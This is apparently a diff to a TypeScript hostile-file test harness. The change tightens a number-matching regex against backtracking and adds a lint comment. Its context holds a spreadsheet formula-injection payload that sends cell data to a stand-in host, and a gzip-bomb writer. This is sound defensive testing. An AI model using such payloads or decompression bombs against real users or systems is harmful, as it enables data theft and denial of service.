@@ -22,7 +22,8 @@ export const FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "
 // eslint-disable-next-line no-control-regex -- a raw control character is what must not be found
 const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
 const FORMULA_START = /^[=+\-@\t\r]/;
-const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
+// `\d+(?:\.\d*)?`, not `\d+\.?\d*`: the same numbers, without splitting a run of digits every way before failing.
+const NUMBER = /^[+-]?(\d+(?:\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
 
 /** Writes a gzip file that expands to `mib` MiB: a JSON prefix, `mib` members of one MiB of `a`, a suffix. */
 export function writeGzipBomb(file: string, mib: number): void {
@@ -230,6 +231,7 @@ export async function runHostileFiles(o: HostileFilesOptions): Promise<HostileFi
     const r = await runCliProcess(o.cli, args, env, o.timeoutMs);
     commands.push({ command: name, code: r.code, ms: Math.round(r.ms), peakMB: Math.round(r.peakMB) });
     if (r.code !== 0 && r.code !== 1) problems.push(`${name}: ended by ${r.signal ?? `exit ${r.code}`} after ${Math.round(r.ms)} ms: ${r.stderr.slice(-300)}`);
+    // eslint-disable-next-line regexp/no-super-linear-move -- a drill run by hand (not the server) reading the stderr of the CLI it started
     if (/internal error|\n\s+at /.test(r.stderr)) problems.push(`${name}: internal error or stack trace: ${r.stderr.slice(0, 300)}`);
     problems.push(...outputProblems(name, [{ name: 'stdout', text: r.stdout }, { name: 'stderr', text: r.stderr }, ...files()]));
     return r;
